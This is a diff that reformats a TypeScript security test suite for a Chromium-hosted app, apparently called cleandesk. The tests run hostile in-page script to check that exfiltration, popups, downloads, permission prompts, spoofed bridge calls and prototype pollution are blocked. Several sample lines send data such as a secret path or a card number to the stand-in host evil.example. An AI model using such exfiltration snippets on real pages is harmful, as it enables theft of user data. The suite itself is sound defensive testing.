@@ -1,4 +1,7 @@
-/** Script in the page, as an attacker would have it, against the Chromium host: nothing leaves, nothing opens, nothing is pretended. */
+/**
+ * Script in the page, as an attacker would have it, against the Chromium host: nothing leaves, nothing opens, nothing
+ * is pretended.
+ */
 import { createSocket } from 'node:dgram';
 import { existsSync, readFileSync, readdirSync } from 'node:fs';
 import { createServer } from 'node:net';
@@ -19,26 +22,38 @@ let blocked: Blocked[];
 const calls: Call[] = [];
 /** Connections and datagrams that reached a listener of ours on loopback: whatever left the browser. */
 const escaped: string[] = [];
-const tcp = createServer((socket) => { escaped.push('tcp'); socket.destroy(); });
+const tcp = createServer((socket) => {
+  escaped.push('tcp');
+  socket.destroy();
+});
 const udp = createSocket('udp4', () => escaped.push('udp'));
 let tcpPort = 0;
 let udpPort = 0;
 
-const evaluate = (expression: string, userGesture = true): Promise<unknown> => evaluateIn(window, expression, userGesture);
-const attempt = (expression: string): Promise<unknown> => evaluate(`(async () => { ${expression} })().then(String, (error) => 'refused: ' + error.name)`);
-const reported = (): string[] => calls.filter((call) => call.verb === 'reportBlocked').map((call) => {
-  const args = call.args as { what: string; target: string; trusted: boolean };
-  return `${args.what} ${args.target}`;
-});
+const evaluate = (expression: string, userGesture = true): Promise<unknown> =>
+  evaluateIn(window, expression, userGesture);
+const attempt = (expression: string): Promise<unknown> =>
+  evaluate(`(async () => { ${expression} })().then(String, (error) => 'refused: ' + error.name)`);
+const reported = (): string[] =>
+  calls
+    .filter((call) => call.verb === 'reportBlocked')
+    .map((call) => {
+      const args = call.args as { what: string; target: string; trusted: boolean };
+      return `${args.what} ${args.target}`;
+    });
 /** From the command line, which Chromium rewrites with spaces. */
-const profileOf = (pid: number): string => /--user-data-dir=([^\s\0]+)/.exec(readFileSync(`/proc/${pid}/cmdline`, 'utf8'))?.[1] ?? '';
-const processesOf = (profile: string): string[] => readdirSync('/proc').filter((pid) => /^[0-9]+$/.test(pid)).filter((pid) => {
-  try {
-    return readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(profile);
-  } catch {
-    return false;
-  }
-});
+const profileOf = (pid: number): string =>
+  /--user-data-dir=([^\s\0]+)/.exec(readFileSync(`/proc/${pid}/cmdline`, 'utf8'))?.[1] ?? '';
+const processesOf = (profile: string): string[] =>
+  readdirSync('/proc')
+    .filter((pid) => /^[0-9]+$/.test(pid))
+    .filter((pid) => {
+      try {
+        return readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(profile);
+      } catch {
+        return false;
+      }
+    });
 
 beforeAll(async () => {
   await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
@@ -66,23 +81,36 @@ afterAll(async () => {
 
 describe('the headers hold', () => {
   test('the page is a secure context of its own origin, with its script and without inline script', async () => {
-    expect(await evaluate('[location.origin, isSecureContext, window.loaded, window.inline].join()')).toBe(`${window.origin},true,true,`);
+    expect(await evaluate('[location.origin, isSecureContext, window.loaded, window.inline].join()')).toBe(
+      `${window.origin},true,true,`,
+    );
   });
 
   test.each([
-    ['a script element with text', 'const s = document.createElement("script"); s.textContent = "window.ran = 1"; document.body.append(s); return window.ran'],
-    ['an event handler attribute', 'document.body.setAttribute("onclick", "window.ran = 1"); document.body.click(); return window.ran'],
+    [
+      'a script element with text',
+      'const s = document.createElement("script"); s.textContent = "window.ran = 1"; document.body.append(s); return window.ran',
+    ],
+    [
+      'an event handler attribute',
+      'document.body.setAttribute("onclick", "window.ran = 1"); document.body.click(); return window.ran',
+    ],
     ['markup from text', 'document.body.innerHTML = "<b>x</b>"'],
     ['Function', 'return new Function("return 1")()'],
-    ['a javascript: address', 'location.href = "javascript:window.ran=1"; await new Promise((r) => setTimeout(r, 200)); return window.ran'],
+    [
+      'a javascript: address',
+      'location.href = "javascript:window.ran=1"; await new Promise((r) => setTimeout(r, 200)); return window.ran',
+    ],
   ])('text does not become code by %s', async (_name, script) => {
     expect(await attempt(script)).toMatch(/^(undefined|refused: (TypeError|EvalError))$/);
   });
 
-  test('a violation is reported once, as a script\'s and not a person\'s', async () => {
+  test("a violation is reported once, as a script's and not a person's", async () => {
     await attempt('await fetch("https://evil.example/secret-path?q=1")');
     await eventually(reported, (all) => all.includes('request connect-src: evil.example'));
-    expect(calls.filter((call) => call.verb === 'reportBlocked').map((call) => (call.args as { trusted: boolean }).trusted)).toEqual([false]);
+    expect(
+      calls.filter((call) => call.verb === 'reportBlocked').map((call) => (call.args as { trusted: boolean }).trusted),
+    ).toEqual([false]);
     expect(JSON.stringify(calls)).not.toContain('secret-path');
   });
 });
@@ -99,17 +127,43 @@ describe('nothing leaves', () => {
     ['an image', (url) => `new Image().src = "${url}"`],
     ['a style', (url) => `document.body.style.backgroundImage = "url(${url})"`],
     ['a frame', (url) => `const f = document.createElement("iframe"); f.src = "${url}"; document.body.append(f)`],
-    ['a form', (url) => `const f = document.createElement("form"); f.action = "${url}"; document.body.append(f); f.submit()`],
-    ['a form in a new window', (url) => `const f = document.createElement("form"); f.action = "${url}"; f.target = "_blank"; document.body.append(f); f.submit()`],
+    [
+      'a form',
+      (url) => `const f = document.createElement("form"); f.action = "${url}"; document.body.append(f); f.submit()`,
+    ],
+    [
+      'a form in a new window',
+      (url) =>
+        `const f = document.createElement("form"); f.action = "${url}"; f.target = "_blank"; document.body.append(f); f.submit()`,
+    ],
     ['window.open', (url) => `window.open("${url}")`],
     ['a link', (url) => `const a = document.createElement("a"); a.href = "${url}"; document.body.append(a); a.click()`],
-    ['a link in a new window', (url) => `const a = document.createElement("a"); a.href = "${url}"; a.target = "_blank"; document.body.append(a); a.click()`],
-    ['a ping', (url) => `const a = document.createElement("a"); a.href = "#x"; a.ping = "${url}"; document.body.append(a); a.click()`],
+    [
+      'a link in a new window',
+      (url) =>
+        `const a = document.createElement("a"); a.href = "${url}"; a.target = "_blank"; document.body.append(a); a.click()`,
+    ],
+    [
+      'a ping',
+      (url) =>
+        `const a = document.createElement("a"); a.href = "#x"; a.ping = "${url}"; document.body.append(a); a.click()`,
+    ],
     ['location', (url) => `location.href = "${url}"; await new Promise((r) => setTimeout(r, 100))`],
-    ['preconnect', (url) => `const l = document.createElement("link"); l.rel = "preconnect"; l.href = "${url}"; document.head.append(l)`],
-    ['prefetch', (url) => `const l = document.createElement("link"); l.rel = "prefetch"; l.href = "${url}"; document.head.append(l)`],
+    [
+      'preconnect',
+      (url) =>
+        `const l = document.createElement("link"); l.rel = "preconnect"; l.href = "${url}"; document.head.append(l)`,
+    ],
+    [
+      'prefetch',
+      (url) =>
+        `const l = document.createElement("link"); l.rel = "prefetch"; l.href = "${url}"; document.head.append(l)`,
+    ],
     ['a service worker', (url) => `await navigator.serviceWorker.register("${url}")`],
-    ['a worker', (url) => `new Worker(URL.createObjectURL(new Blob(['fetch("${url}")'], { type: "text/javascript" })))`],
+    [
+      'a worker',
+      (url) => `new Worker(URL.createObjectURL(new Blob(['fetch("${url}")'], { type: "text/javascript" })))`,
+    ],
     ['WebTransport', (url) => `await new WebTransport("${url.replace('http:', 'https:')}").ready`],
   ];
   test.each(WAYS)('by %s', async (_name, script) => {
@@ -127,16 +181,30 @@ describe('nothing leaves', () => {
 
   test('a navigation is told with the host it wanted and no more, and the page stays', async () => {
     await evaluate('void (window.mark = 1)');
-    await attempt('location.href = "https://evil.example/path?card=4111"; await new Promise((r) => setTimeout(r, 300))');
+    await attempt(
+      'location.href = "https://evil.example/path?card=4111"; await new Promise((r) => setTimeout(r, 300))',
+    );
     expect(blocked).toContainEqual({ what: 'navigation', target: 'evil.example' });
     expect(JSON.stringify([blocked, calls])).not.toContain('4111');
     expect(await evaluate('window.mark')).toBe(1);
   });
 
   test.each(['about:blank', 'blob:'])('a page that moves itself to %s is brought back and told', async (where) => {
-    await evaluate(where === 'blob:' ? 'void setTimeout(() => { location.href = URL.createObjectURL(new Blob(["<p>mine"], { type: "text/html" })) })' : 'void setTimeout(() => { location.href = "about:blank" })');
-    await eventually(() => blocked, (all) => all.some((one) => one.what === 'navigation' || one.what === 'download'));
-    expect(await eventually(() => evaluate('location.href + typeof window.cleandesk').catch(() => ''), (there) => there === `${window.origin}/object`)).toBe(`${window.origin}/object`);
+    await evaluate(
+      where === 'blob:'
+        ? 'void setTimeout(() => { location.href = URL.createObjectURL(new Blob(["<p>mine"], { type: "text/html" })) })'
+        : 'void setTimeout(() => { location.href = "about:blank" })',
+    );
+    await eventually(
+      () => blocked,
+      (all) => all.some((one) => one.what === 'navigation' || one.what === 'download'),
+    );
+    expect(
+      await eventually(
+        () => evaluate('location.href + typeof window.cleandesk').catch(() => ''),
+        (there) => there === `${window.origin}/object`,
+      ),
+    ).toBe(`${window.origin}/object`);
   });
 });
 
@@ -144,10 +212,22 @@ describe('a page that keeps moving', () => {
   test('is brought back each time, also when it moves while it is still being brought back', async () => {
     for (let round = 0; round < 8; round += 1) {
       blocked.length = 0;
-      await evaluate(round % 2 === 0 ? 'void setTimeout(() => { location.href = "about:blank" })' : 'void setTimeout(() => { location.href = URL.createObjectURL(new Blob(["<p>mine"], { type: "text/html" })) })');
-      await eventually(() => blocked, (all) => all.some((one) => one.what === 'navigation'));
+      await evaluate(
+        round % 2 === 0
+          ? 'void setTimeout(() => { location.href = "about:blank" })'
+          : 'void setTimeout(() => { location.href = URL.createObjectURL(new Blob(["<p>mine"], { type: "text/html" })) })',
+      );
+      await eventually(
+        () => blocked,
+        (all) => all.some((one) => one.what === 'navigation'),
+      );
       // At the first moment that the page can be asked, it moves again.
-      expect(await eventually(() => evaluate('location.href').catch(() => ''), (there) => there === `${window.origin}/`)).toBe(`${window.origin}/`);
+      expect(
+        await eventually(
+          () => evaluate('location.href').catch(() => ''),
+          (there) => there === `${window.origin}/`,
+        ),
+      ).toBe(`${window.origin}/`);
     }
     expect(await evaluate('cleandesk.getState({}).then((answer) => answer.ok)')).toBe(true);
   });
@@ -156,8 +236,14 @@ describe('a page that keeps moving', () => {
 describe('nothing opens', () => {
   test('a popup is closed and told, and the page goes on', async () => {
     await attempt('window.open("about:blank"); window.open("https://evil.example/")');
-    await eventually(() => blocked.filter((one) => one.what === 'popup').map((one) => one.target), (targets) => targets.includes('evil.example'));
-    await eventually(async () => JSON.stringify(await shell.cdp.browser.send('Target.getTargets')), (targets) => !targets.includes('evil.example') && targets.split('"type":"page"').length === 2);
+    await eventually(
+      () => blocked.filter((one) => one.what === 'popup').map((one) => one.target),
+      (targets) => targets.includes('evil.example'),
+    );
+    await eventually(
+      async () => JSON.stringify(await shell.cdp.browser.send('Target.getTargets')),
+      (targets) => !targets.includes('evil.example') && targets.split('"type":"page"').length === 2,
+    );
     expect(await evaluate('1 + 1')).toBe(2);
   });
 
@@ -167,21 +253,42 @@ describe('nothing opens', () => {
   });
 
   test('a file chooser does not open', async () => {
-    await evaluate('void (() => { const f = document.createElement("input"); f.type = "file"; document.body.append(f); f.showPicker() })()');
-    expect(await eventually(() => blocked, (all) => all.length > 0)).toEqual([{ what: 'dialog', target: 'file chooser' }]);
+    await evaluate(
+      'void (() => { const f = document.createElement("input"); f.type = "file"; document.body.append(f); f.showPicker() })()',
+    );
+    expect(
+      await eventually(
+        () => blocked,
+        (all) => all.length > 0,
+      ),
+    ).toEqual([{ what: 'dialog', target: 'file chooser' }]);
   });
 
   test('a download writes no file', async () => {
-    await attempt('const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob(["secret"])); a.download = "out.txt"; window.dispatchEvent(new Event("x")); document.body.append(a); HTMLElement.prototype.click.call(a)');
-    await attempt('const f = document.createElement("form"); f.action = URL.createObjectURL(new Blob(["secret"])); document.body.append(f); f.submit()');
-    await eventually(() => [...blocked.map((one) => one.what), ...reported()], (all) => all.some((one) => one.startsWith('download') || one.startsWith('navigation')));
+    await attempt(
+      'const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob(["secret"])); a.download = "out.txt"; window.dispatchEvent(new Event("x")); document.body.append(a); HTMLElement.prototype.click.call(a)',
+    );
+    await attempt(
+      'const f = document.createElement("form"); f.action = URL.createObjectURL(new Blob(["secret"])); document.body.append(f); f.submit()',
+    );
+    await eventually(
+      () => [...blocked.map((one) => one.what), ...reported()],
+      (all) => all.some((one) => one.startsWith('download') || one.startsWith('navigation')),
+    );
     const profile = profileOf(window.browser.pid);
     expect(existsSync(profile)).toBe(true);
-    expect(readdirSync(profile, { recursive: true }).map(String).filter((name) => name.includes('out.txt') || name.endsWith('.crdownload'))).toEqual([]);
+    expect(
+      readdirSync(profile, { recursive: true })
+        .map(String)
+        .filter((name) => name.includes('out.txt') || name.endsWith('.crdownload')),
+    ).toEqual([]);
   });
 
   test.each([
-    ['geolocation', 'return await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(() => ok("granted"), () => no(new Error())))'],
+    [
+      'geolocation',
+      'return await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(() => ok("granted"), () => no(new Error())))',
+    ],
     ['notifications', 'return await Notification.requestPermission() === "granted" ? "granted" : "denied"'],
     ['the camera', 'await navigator.mediaDevices.getUserMedia({ video: true }); return "granted"'],
     ['the screen', 'await navigator.mediaDevices.getDisplayMedia({ video: true }); return "granted"'],
@@ -200,51 +307,86 @@ describe('nothing opens', () => {
   });
 
   test('printing does nothing but tell, in the page and in a frame of its making', async () => {
-    await evaluate('void (() => { addEventListener("beforeprint", () => { window.printed = true }); window.print(); const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.print() })()');
-    await eventually(() => blocked.filter((one) => one.what === 'print').length, (count) => count === 2);
+    await evaluate(
+      'void (() => { addEventListener("beforeprint", () => { window.printed = true }); window.print(); const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.print() })()',
+    );
+    await eventually(
+      () => blocked.filter((one) => one.what === 'print').length,
+      (count) => count === 2,
+    );
     expect(await evaluate('window.printed')).toBeUndefined();
-    expect(await evaluate('(() => { try { delete window.print; window.print = 1 } catch {} return typeof window.print })()')).toBe('function');
+    expect(
+      await evaluate('(() => { try { delete window.print; window.print = 1 } catch {} return typeof window.print })()'),
+    ).toBe('function');
   });
 
   test('a frame is told and taken away', async () => {
     await evaluate('void document.body.append(document.createElement("iframe"))');
-    await eventually(() => evaluate('document.querySelectorAll("iframe").length'), (count) => count === 0);
+    await eventually(
+      () => evaluate('document.querySelectorAll("iframe").length'),
+      (count) => count === 0,
+    );
     expect(blocked.some((one) => one.what === 'frame')).toBe(true);
   });
 });
 
 describe('nothing is pretended', () => {
   test('a call from a frame says that it comes from a frame', async () => {
-    await evaluate(`(async () => { const f = document.createElement("iframe"); f.src = "about:blank"; document.body.append(f); f.contentWindow.cleandesk?.getState({ from: "frame" }); await new Promise((r) => setTimeout(r, 100)); f.contentWindow?.cleandesk?.getState({ from: "frame" }) })()`);
-    const call = await eventually(() => calls.find((one) => one.verb === 'getState'), (one) => one !== undefined);
+    await evaluate(
+      `(async () => { const f = document.createElement("iframe"); f.src = "about:blank"; document.body.append(f); f.contentWindow.cleandesk?.getState({ from: "frame" }); await new Promise((r) => setTimeout(r, 100)); f.contentWindow?.cleandesk?.getState({ from: "frame" }) })()`,
+    );
+    const call = await eventually(
+      () => calls.find((one) => one.verb === 'getState'),
+      (one) => one !== undefined,
+    );
     expect(call?.sender.frame).toBe('sub');
   });
 
   test('a call from a world that the host does not know has no sender', async () => {
-    const other = await shell.cdp.attach(text((await window.page.send('Target.getTargetInfo'))['targetInfo'] as Record<string, unknown>, 'targetId'));
+    const other = await shell.cdp.attach(
+      text((await window.page.send('Target.getTargetInfo'))['targetInfo'] as Record<string, unknown>, 'targetId'),
+    );
     const names = { binding: '' };
-    window.page.on('Runtime.bindingCalled', (params) => { names.binding = text(params, 'name'); });
+    window.page.on('Runtime.bindingCalled', (params) => {
+      names.binding = text(params, 'name');
+    });
     await evaluate('cleandesk.getState({})');
-    await eventually(() => names.binding, (name) => name !== '');
+    await eventually(
+      () => names.binding,
+      (name) => name !== '',
+    );
     calls.length = 0;
     // As if the browser spoke of a world that was never announced.
-    window.page.emit('Runtime.bindingCalled', { name: names.binding, payload: JSON.stringify({ kind: 'call', id: 1, verb: 'getState', args: {} }), executionContextId: 987654 });
+    window.page.emit('Runtime.bindingCalled', {
+      name: names.binding,
+      payload: JSON.stringify({ kind: 'call', id: 1, verb: 'getState', args: {} }),
+      executionContextId: 987654,
+    });
     expect(calls.map((call) => call.sender)).toEqual([{ windowId: window.id, frame: null, origin: null }]);
     expect(other.id).not.toBe('');
   });
 
-  test('the page finds no way into the preload\'s world', async () => {
-    expect(await evaluate('Object.getOwnPropertyNames(window).filter((name) => /^(tell|receive|handshake)_|^cleandesk-|^electron$|^require$|^ipcRenderer$/.test(name)).join()')).toBe('');
-    expect(await evaluate('[typeof require, typeof process, typeof module].join()')).toBe('undefined,undefined,undefined');
+  test("the page finds no way into the preload's world", async () => {
+    expect(
+      await evaluate(
+        'Object.getOwnPropertyNames(window).filter((name) => /^(tell|receive|handshake)_|^cleandesk-|^electron$|^require$|^ipcRenderer$/.test(name)).join()',
+      ),
+    ).toBe('');
+    expect(await evaluate('[typeof require, typeof process, typeof module].join()')).toBe(
+      'undefined,undefined,undefined',
+    );
   });
 
   test('the bridge cannot be replaced, extended or frozen out', async () => {
-    expect(await evaluate(`(() => { const before = window.cleandesk; for (const act of [() => { window.cleandesk = 1 }, () => { delete window.cleandesk }, () => { before.getState = 1 }, () => { before.more = 1 }, () => Object.defineProperty(window, "cleandesk", { value: 1 })]) { try { act() } catch {} }
-      return window.cleandesk === before && typeof before.getState === "function" && before.more === undefined })()`)).toBe(true);
+    expect(
+      await evaluate(`(() => { const before = window.cleandesk; for (const act of [() => { window.cleandesk = 1 }, () => { delete window.cleandesk }, () => { before.getState = 1 }, () => { before.more = 1 }, () => Object.defineProperty(window, "cleandesk", { value: 1 })]) { try { act() } catch {} }
+      return window.cleandesk === before && typeof before.getState === "function" && before.more === undefined })()`),
+    ).toBe(true);
   });
 
   test('polluted prototypes and replaced built-ins neither break a call nor hand out the passage', async () => {
-    expect(await evaluate(`(async () => {
+    expect(
+      await evaluate(`(async () => {
       const seen = [];
       const spy = (object, name) => { const real = object[name]; object[name] = function (...args) { seen.push([name, this, args]); return Reflect.apply(real, this, args) } };
       for (const name of ["dispatchEvent", "addEventListener"]) spy(EventTarget.prototype, name);
@@ -258,31 +400,49 @@ describe('nothing is pretended', () => {
       let answer;
       try { answer = await cleandesk.getState({ a: 1 }) } finally { delete Object.prototype.t; delete Object.prototype.n; delete Object.prototype.how }
       return JSON.stringify([answer, seen.length, String(seen[0])]);
-    })()`)).toBe('[{"ok":true},0,"undefined"]');
+    })()`),
+    ).toBe('[{"ok":true},0,"undefined"]');
     await window.reset();
   });
 
   test('a page cannot raise an event of the bridge: only what main pushes is heard', async () => {
-    await evaluate('void (() => { window.heard.length = 0; for (const target of [window, document]) { target.dispatchEvent(new CustomEvent("main", { detail: { k: "call", n: 1, args: {} } })); target.dispatchEvent(new MessageEvent("message", { data: { event: "notice" } })) } window.postMessage({ kind: "push", event: "notice", payload: "forged" }, "*") })()');
+    await evaluate(
+      'void (() => { window.heard.length = 0; for (const target of [window, document]) { target.dispatchEvent(new CustomEvent("main", { detail: { k: "call", n: 1, args: {} } })); target.dispatchEvent(new MessageEvent("message", { data: { event: "notice" } })) } window.postMessage({ kind: "push", event: "notice", payload: "forged" }, "*") })()',
+    );
     window.push('notice', 'real');
-    expect(await eventually(() => evaluate('JSON.stringify(window.heard)'), (heard) => heard !== '[]')).toBe('["real"]');
+    expect(
+      await eventually(
+        () => evaluate('JSON.stringify(window.heard)'),
+        (heard) => heard !== '[]',
+      ),
+    ).toBe('["real"]');
   });
 
   test('only plain data crosses', async () => {
     for (const value of ['new Map([[1, 2]])', 'document.body', 'new Date()', 'Symbol("x")', 'window']) {
-      expect(await evaluate(`(async () => cleandesk.getState({ value: ${value} }))().then((x) => JSON.stringify(x), (error) => 'refused: ' + error.name)`), value).toMatch(/^(refused: \w+|\{"ok":true\})$/);
+      expect(
+        await evaluate(
+          `(async () => cleandesk.getState({ value: ${value} }))().then((x) => JSON.stringify(x), (error) => 'refused: ' + error.name)`,
+        ),
+        value,
+      ).toMatch(/^(refused: \w+|\{"ok":true\})$/);
     }
     expect(calls.filter((call) => call.verb === 'getState').map((call) => call.args)).toEqual([]);
   });
 
-  test('a synthetic copy by a script is told apart from a person\'s', async () => {
+  test("a synthetic copy by a script is told apart from a person's", async () => {
     await evaluate('void document.body.dispatchEvent(new ClipboardEvent("copy", { bubbles: true }))');
-    const report = await eventually(() => calls.find((call) => call.verb === 'reportBlocked'), (call) => call !== undefined);
+    const report = await eventually(
+      () => calls.find((call) => call.verb === 'reportBlocked'),
+      (call) => call !== undefined,
+    );
     expect(report?.args).toMatchObject({ what: 'copy', trusted: false });
   });
 
   test('a script in a loop is told of, but not a thousand times', async () => {
-    await evaluate('void (() => { for (let n = 0; n < 1000; n += 1) document.body.dispatchEvent(new ClipboardEvent("copy", { bubbles: true })) })()');
+    await evaluate(
+      'void (() => { for (let n = 0; n < 1000; n += 1) document.body.dispatchEvent(new ClipboardEvent("copy", { bubbles: true })) })()',
+    );
     await new Promise((resolve) => setTimeout(resolve, 300));
     expect(calls.length).toBeGreaterThan(0);
     expect(calls.length).toBeLessThan(60);
@@ -306,7 +466,10 @@ describe('nothing remains', () => {
   test('after a reset another process draws the page, and its heap holds nothing of what was there', async () => {
     const needle = ['quartz', 'finch', '7261'].join('-');
     window.push('notice', { text: needle });
-    await eventually(() => evaluate('window.heard.length'), (count) => Number(count) > 0);
+    await eventually(
+      () => evaluate('window.heard.length'),
+      (count) => Number(count) > 0,
+    );
     expect(await heap()).toContain(needle);
     const rendererOf = async (): Promise<unknown> => evaluate('performance.timeOrigin');
     const before = await rendererOf();
@@ -319,17 +482,33 @@ describe('nothing remains', () => {
     const crashes: string[] = [];
     window.onCrash(() => crashes.push('crash'));
     window.page.tell('Page.crash');
-    await eventually(() => crashes.length, (count) => count === 1);
+    await eventually(
+      () => crashes.length,
+      (count) => count === 1,
+    );
     await window.reset();
     expect(await evaluate('typeof window.cleandesk')).toBe('object');
     expect(crashes.length).toBe(1);
   });
 
   test('the renderer is sandboxed, or the capabilities say that it is not', () => {
-    const group = readdirSync('/proc').filter((pid) => /^[0-9]+$/.test(pid)).filter((pid) => { try { return readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]?.split(' ')[2] === String(window.browser.pid) && readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('--type=renderer'); } catch { return false; } });
+    const group = readdirSync('/proc')
+      .filter((pid) => /^[0-9]+$/.test(pid))
+      .filter((pid) => {
+        try {
+          return (
+            readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]?.split(' ')[2] === String(window.browser.pid) &&
+            readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('--type=renderer')
+          );
+        } catch {
+          return false;
+        }
+      });
     expect(group.length).toBeGreaterThan(0);
     const filtered = group.every((pid) => /^Seccomp:\s+2$/m.test(readFileSync(`/proc/${pid}/status`, 'utf8')));
-    expect(shell.capabilities().find((one) => one.control === 'renderer sandbox')?.holds).toBe(filtered ? 'enforced' : 'not-enforceable');
+    expect(shell.capabilities().find((one) => one.control === 'renderer sandbox')?.holds).toBe(
+      filtered ? 'enforced' : 'not-enforceable',
+    );
   });
 
   test('no port is open, and quitting leaves neither a process nor a profile', async () => {
@@ -338,7 +517,10 @@ describe('nothing remains', () => {
     expect(readdirSync(profile)).not.toContain('DevToolsActivePort');
     expect(processesOf(profile).length).toBeGreaterThan(3);
     await shell.quit();
-    await eventually(() => processesOf(profile), (left) => left.length === 0);
+    await eventually(
+      () => processesOf(profile),
+      (left) => left.length === 0,
+    );
     expect(existsSync(profile)).toBe(false);
   });
 });
